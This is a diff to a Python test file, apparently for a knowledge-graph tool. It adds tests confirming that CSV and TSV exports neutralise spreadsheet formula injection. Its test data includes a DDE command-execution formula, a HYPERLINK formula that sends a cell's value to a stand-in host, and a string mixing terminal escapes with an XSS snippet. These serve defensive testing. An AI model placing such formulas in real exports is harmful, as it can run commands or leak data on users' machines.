@@ -10,6 +10,7 @@ import unicodedata
 from collections.abc import Callable
 from datetime import date
 from functools import cache
+from pathlib import Path
 from typing import Any
 
 import pyoxigraph as ox
@@ -23,7 +24,9 @@ from rdflib.query import Result
 from rdflib.term import Identifier
 
 import kg
-from kg.tables import Table, Term, shorten, visible
+from kg.facts.nodes import Mapping, Scalar
+from kg.facts.tables import parse_table
+from kg.tables import FORMULA, Table, Term, guard, shorten, unguard, visible, width_of
 from kg.vocabulary import ID, XSD
 
 ATTACK = '\x1b[31mred\x1b]0;title\x07 \x9b2J\r\n\u202etxt\u202c\u2066x\x00\x08|a|<script>alert(1)</script>&amp;`"\\'
@@ -107,7 +110,7 @@ def test_json_read_back_by_rdflib(table: Table) -> None:
 @given(st.lists(st.tuples(TERMS, TERMS), max_size=4).map(lambda rows: Table(("one", "two"), tuple(rows), ID)))
 def test_tsv_cells_are_turtle_terms(table: Table) -> None:
     """One line per row, one cell per column, each cell a term in Turtle's notation that gives the same term."""
-    lines = table.to_tsv().removesuffix("\n").split("\n")
+    lines = table.to_tsv(raw=True).removesuffix("\n").split("\n")
     assert lines[0] == "?one\t?two"
     assert len(lines) == len(table) + 1
     for line, row in zip(lines[1:], table.terms, strict=True):
@@ -141,11 +144,115 @@ def check_same(table: Table, rows: list[list[Identifier | None]]) -> None:
 @given(TABLES)
 def test_csv_read_back(table: Table) -> None:
     """Whole IRIs and plain values, CRLF between rows, as RFC 4180 and the W3C have it."""
-    text = table.to_csv()
+    text = table.to_csv(raw=True)
     assert text.endswith("\r\n")
     head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
     assert head == ["one", "two"]
-    assert rows == [["" if term is None else term.value for term in row] for row in table.terms]
+    assert rows == [
+        ["" if term is None else str(term) if isinstance(term, ox.BlankNode) else term.value for term in row]
+        for row in table.terms
+    ]
+
+
+FORMULAS = (
+    "=1+1", "+1", "-5", "@SUM(A1)", "|calc", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "  =1", "\u00a0=1", "\u3000-1",
+    "\u200b=1", "\ufeff=1", "\x00=1", "\u200f=1", "＝1", "＋1", "－1", "＠x", "｜x", "﹦1", "﹢1", "﹣1", "﹫x", "−1",
+    "'=1", "''  @x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"y")',
+)  # fmt: skip
+HARMLESS = (
+    "", "'", "''", "Ankara", "'Abd al-Karim", "a=1", "1-1", "5", "(=1)", "#REF!", "https://x.example/=1", "–1 %",
+)  # fmt: skip
+CELLS = st.one_of(
+    st.sampled_from([*FORMULAS, *HARMLESS]),
+    st.lists(st.sampled_from([*"='-+@|\t\r\n x1,;\"", "＝", "\u200b", "\ufeff"]), max_size=6).map("".join),
+    TEXTS,
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formulas_are_guarded(text: str) -> None:
+    assert guard(text) == "'" + text and unguard(guard(text)) == text
+    for term in (ox.Literal(text), ox.Literal(text, language="tr"), typed(text, "date")):
+        table = make_table(term)
+        assert list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1] == ["'" + text]
+        assert table.to_tsv().split("\n")[1].startswith("\"'")
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_are_left_alone(text: str) -> None:
+    assert guard(text) == text and unguard(text) == text
+    table = make_table(ox.Literal(text))
+    assert (table.to_csv(), table.to_tsv()) == (table.to_csv(raw=True), table.to_tsv(raw=True))
+
+
+@settings(deadline=None)
+@given(CELLS)
+def test_guard_and_back(text: str) -> None:
+    """What is guarded comes back as it was, and no cell is a formula; what was never guarded stays as it is."""
+    assert unguard(guard(text)) == text
+    assert guard(text) == text or guard(text) == "'" + text
+    assert not guard(text).lstrip(" \u200b\ufeff\u3000").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
+    if not FORMULA.match(text):
+        assert unguard(text) == text
+
+
+@settings(deadline=None)
+@given(CELLS)
+def test_a_register_reads_guarded_cells(text: str) -> None:
+    """What a table of kg has becomes facts again as it was."""
+    cell = guard(text.replace("\x00", ""))
+    out = io.StringIO(newline="")
+    csv.writer(out).writerows([["id", "description"], ["a", cell]])
+    problems: list[kg.Problem] = []
+    document = parse_table(out.getvalue(), "actors.csv", report=problems.append)
+    assert document is not None and not problems
+    actors = document["actors"]
+    assert isinstance(actors, Mapping)
+    entry = actors["a"]
+    assert isinstance(entry, Mapping)
+    found = entry["description"] if "description" in entry.items else None
+    assert (found.value if isinstance(found, Scalar) else "") == text.replace("\x00", "").strip()
+
+
+@settings(deadline=None)
+@given(CELLS)
+def test_tsv_and_back(text: str) -> None:
+    """A cell of TSV is a term still, with a text that `unguard` gives back."""
+    cell = make_table(ox.Literal(text)).to_tsv().split("\n")[1]
+    (quad,) = ox.parse(f"<x:s> <x:p> {cell} .".encode(), format=ox.RdfFormat.TURTLE)
+    assert isinstance(quad.object, ox.Literal) and unguard(quad.object.value) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "datatype"),
+    [
+        ("-5", "integer"),
+        ("+5", "integer"),
+        ("-1.5", "decimal"),
+        ("-.5", "decimal"),
+        ("-1e-7", "double"),
+        ("-INF", "float"),
+    ],
+)
+def test_numbers_stay_numbers(value: str, datatype: str) -> None:
+    table = make_table(typed(value, datatype))
+    assert table.to_csv() == table.to_csv(raw=True) == f"one\r\n{value}\r\n"
+    assert table.to_tsv() == table.to_tsv(raw=True) == f'?one\n"{value}"^^<{XSD}{datatype}>\n'
+
+
+def test_numbers_that_are_none_are_texts() -> None:
+    table = make_table(typed("=1", "integer"), typed("-2+3", "decimal"), ox.Literal("-5"))
+    assert [row[0] for row in csv.reader(io.StringIO(table.to_csv(), newline=""))][1:] == ["'=1", "'-2+3", "'-5"]
+    assert table.to_tsv().split("\n")[1] == f'"\'=1"^^<{XSD}integer>'
+
+
+def test_columns_are_guarded() -> None:
+    assert make_table(ox.Literal("x"), columns=("=1",)).to_csv() == "'=1\r\nx\r\n"
+
+
+def test_the_page_has_the_same_rule() -> None:
+    script = Path(kg.__file__).parent / "page" / "script" / "table.js"
+    assert f"/{FORMULA.pattern}/" in script.read_text(encoding="utf-8")
 
 
 def test_json_of_an_answer() -> None:
@@ -235,7 +342,13 @@ def test_library_that_is_not_installed(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def test_wide_letters_line_up() -> None:
-    """Columns of plain text are as wide as their longest cell, in characters."""
+    """Columns of plain text are as wide as their longest cell, as a terminal shows it."""
     lines = answer().to_text().splitlines()
     start = lines[0].index("type")
     assert all(line[start - 2 : start] == "  " for line in lines)
+
+    names = ("Wang Yi", "王毅", "왕이", "ワン・イー", "ﾜﾝ", "Erdog\u0306an", "שָׁלוֹם", "👍", "ｗａｎｇ", "\u00e9")
+    table = make_table(*(ox.Literal(cell) for name in names for cell in (name, "|")), columns=("one", "two"))
+    for line in table.to_text().splitlines()[1:]:
+        assert width_of(line) == 10 + 2 + 1, line
+    assert [width_of(name) for name in names] == [7, 4, 4, 10, 2, 7, 4, 2, 8, 1]
